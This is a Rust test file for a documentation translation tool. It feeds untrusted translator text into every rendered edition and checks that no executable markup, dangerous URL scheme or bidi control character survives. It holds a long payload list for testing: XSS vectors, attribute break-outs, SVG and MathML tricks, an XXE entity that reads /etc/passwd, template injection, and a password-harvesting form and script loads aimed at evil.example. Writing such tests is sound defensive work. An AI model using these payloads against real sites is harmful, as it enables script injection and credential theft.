//! Translations are untrusted: no text of a translator brings markup, addresses or letters that act into any edition.
//!
//! Each attack is the text of every message of an article of its own; all articles are rendered in all formats at once. What
//! is looked for is what a browser would act on, not how the program escapes.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;

use tolmach::edition;
use tolmach::markdown;

use crate::books::unpacked;
use crate::dangers::{TEXT, acting_letters, dangers, dangers_in};
use crate::law::page::literal;
use crate::sandbox::Sandbox;

const ATTACKS: &[&str] = &[
    // Tags.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example></object><embed src=x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<textarea><title><plaintext>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example autoplay>",
    "<x-custom onfocus=alert(1) tabindex=0 autofocus>",
    "<!--><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    // Handlers on the tags that the English has.
    "<b onclick=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>x</b>",
    "<b style='background:url(https://evil.example)'>x</b>",
    "<b\nonfocus\n=\nalert(1)\ntabindex=0>x</b>",
    "<b title='>' onclick=alert(1)>x</b>",
    "<b>x</b><b>y</b><b>z</b>",
    "</b></p></article></main></body></html>",
    "<b <script>alert(1)</script>",
    // Schemes.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#115;cript&#x3a;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](x.png)](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[safe]: javascript:alert(1) 'x'",
    // Attribute break-outs.
    "\" onclick=\"alert(1)",
    "' onclick='alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "`onerror=alert(1)`",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'y\" onclick=\"alert(1)')",
    "[x](<https://a.example/\" onclick=\"alert(1)>)",
    "![\" onerror=\"alert(1)](x.png)",
    "![x](x.png '\" onerror=\"alert(1)')",
    "x {#y\" onclick=alert(1)}",
    "x {onclick=alert(1) style=color:red}",
    "x {.a\"onclick=alert(1) #main}",
    // Out of scripts, styles and comments.
    "</script><script>alert(1)</script>",
    "</ScRiPt ><!-- <script>",
    "\\u003c/script\\u003e<!--<script>",
    "\u{2028}alert(1)\u{2029}",
    "</style><script>alert(1)</script>",
    "<style>*{background:url(https://evil.example)}</style>",
    "}*{background:url(https://evil.example)}",
    "--><script>alert(1)</script><!--",
    "]]><x xmlns='https://evil.example'/>",
    "</title><script>alert(1)</script>",
    "</textarea></noscript></title><script>alert(1)</script>",
    // SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    // Entities.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;",
    "&quot; onclick=&quot;alert(1)",
    "&#0;&#1;&#xFFFF;&#x110000;&evil;",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    // Letters that act.
    "safe \u{202E}gnp.exe",
    "\u{202D}x\u{202A}y",
    "x\u{2067}y",
    "x&#x202E;y&#8238;z&#x2067;",
    "\u{2069}\u{2069}\u{202C}x\u{2066}",
    "x\u{0}y\u{8}z\u{1B}[31m\u{7F}\u{9B}31m",
    "\u{FEFF}x\u{FFFE}\u{FFFF}",
    // Markdown.
    "x\n\n<script>alert(1)</script>",
    "x\n---\ntitle: y\n---\n",
    "# x\n\n```\ny",
    "> x\n\n    <script>alert(1)</script>",
    "~~~html\n<script>alert(1)</script>",
    "`<script>`<script>alert(1)</script>`",
    "\\<script>alert(1)\\</script>",
    "**<script>**alert(1)**</script>**",
    "[^1]: <script>alert(1)</script>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|",
    "* [ ] <input autofocus onfocus=alert(1)>",
    "<https://a.example/\" onclick=alert(1)>",
    "[x](https://a.example/<script>alert(1)</script>)",
    "{{ title|safe }}{% include '/etc/passwd' %}",
    "${7*7}<%= 7*7 %>#{7*7}",
];

const ARTICLE: &str = "---\ntitle: News\ndescription: Words\n---\n\nOne *two* [three](https://safe.example/) <b>four</b>.\n\n## Heading\n\n- item ![Picture](x.png)\n\n| a | b |\n| --- | --- |\n| cell | c |\n\n<div title=\"x\">\nAuthor's own.\n</div>\n";

/// Replaces every translation of a locale by the attack.
fn translations(catalogue: &str, attack: &str) -> String {
    let ids = catalogue.lines().filter(|line| line.starts_with(|c: char| c.is_ascii_alphabetic()));
    ids.filter_map(|line| line.split_once(" =")).fold(String::new(), |mut file, (id, _)| {
        writeln!(file, "{id} = {}\n", literal(attack)).unwrap();
        file
    })
}

/// What a book holds beside: its package, its contents and its cover.
const BOOK: &[&str] = &[
    "body",
    "cite",
    "container",
    "contributor",
    "creator",
    "date",
    "description",
    "head",
    "html",
    "identifier",
    "item",
    "itemref",
    "language",
    "link",
    "manifest",
    "meta",
    "metadata",
    "nav",
    "package",
    "publisher",
    "rect",
    "rootfile",
    "rootfiles",
    "source",
    "spine",
    "svg",
    "text",
    "time",
    "title",
    "tspan",
];

/// Returns what a reader's program might act on in a book.
fn dangers_of_book(bytes: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    for (path, bytes) in unpacked(bytes) {
        if path == "mimetype" || path.ends_with(".css") {
            continue;
        }
        let text = std::str::from_utf8(&bytes).expect("a book without images is text");
        found.extend(acting_letters(text));
        let declared = text.matches("<!").count() + text.matches("<?").count();
        if declared > 1 + usize::from(text.contains("<!DOCTYPE html>\n<html ")) {
            found.push(format!("{path}: a declaration"));
        }
        let options = roxmltree::ParsingOptions { allow_dtd: true, ..Default::default() };
        let tree = roxmltree::Document::parse_with_options(text, options).unwrap_or_else(|why| panic!("{path}: {why}"));
        for node in tree.descendants().filter(|node| node.is_element()) {
            let name = node.tag_name().name();
            if ![TEXT, BOOK].concat().contains(&name) {
                found.push(format!("{path}: <{name}>"));
            }
            for attribute in node.attributes() {
                let (key, value) = (attribute.name(), attribute.value());
                let is_address = matches!(key, "href" | "src" | "data" | "poster");
                let asks = name != "a" && is_address && value.contains(':');
                if key.starts_with("on")
                    || matches!(key, "style" | "srcdoc")
                    || asks
                    || is_address && markdown::forbidden_scheme(value).is_some()
                {
                    found.push(format!("{path}: {key}={value} of <{name}>"));
                }
            }
        }
    }
    found
}

#[test]
fn no_translation_acts_in_an_edition() {
    let formats = edition::names().iter().map(|name| format!("{name:?}")).collect::<Vec<_>>().join(", ");
    let sandbox = Sandbox::new([(
        "tolmach.toml",
        format!(
            "[editions]\nbase-url = \"https://articles.example\"\nformats = [{formats}]\n[locales.ru]\non-missing = \"source\"\n[locales.ar]\non-missing = \"source\"\n"
        )
        .as_str(),
    )]);
    for number in 0..ATTACKS.len() {
        sandbox.write(&format!("source/a{number}.md"), ARTICLE);
    }
    sandbox.tolmach(&["segment"]);
    let mut titles = BTreeSet::new();
    for (number, attack) in ATTACKS.iter().enumerate() {
        let catalogue = sandbox.text(&format!("locales/en/a{number}.ftl"));
        for locale in ["ru", "ar"] {
            sandbox.write(&format!("locales/{locale}/a{number}.ftl"), &translations(&catalogue, attack));
        }
        titles.insert(*attack);
    }
    assert!(titles.len() >= 60, "{} attacks", titles.len());
    let output = sandbox.tolmach(&["render"]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));

    let mut failures = Vec::new();
    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
    for (path, bytes) in sandbox.files() {
        let Some(below) = path.strip_prefix("editions/") else { continue };
        *seen.entry(below.split('/').next().unwrap_or_default().to_string()).or_default() += 1;
        let found = match path.ends_with(".epub") {
            true => dangers_of_book(&bytes),
            false => dangers_in(&path, std::str::from_utf8(&bytes).expect("an edition is text")),
        };
        if !found.is_empty() {
            let number: Option<usize> =
                path.rsplit('/').next().and_then(|name| name.strip_prefix('a')?.split('.').next()?.parse().ok());
            let attack = number.and_then(|number| ATTACKS.get(number)).copied().unwrap_or_default();
            failures.push(format!("{path}: {attack:?} brings {found:?}"));
        }
    }
    for name in edition::names() {
        let expected = ATTACKS.len() * 2;
        assert!(seen.get(name).is_some_and(|count| *count >= expected), "{name}: {seen:?}, expected {expected}");
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_search_for_dangers_finds_what_is_not_escaped() {
    let markup = ATTACKS.iter().filter(|attack| attack.contains("<s") || attack.contains("on") && attack.contains('<'));
    let (found, missed): (Vec<&&str>, Vec<&&str>) =
        markup.partition(|attack| !dangers_in("page.html", &format!("<p>{attack}</p>")).is_empty());
    assert!(found.len() >= 50 && missed.len() <= 8, "{} found, missed: {missed:#?}", found.len());
    assert_eq!(dangers("<p title=\"<script>\">1 < 2 &lt;script></p>", &[TEXT]), Vec::<String>::new());
}
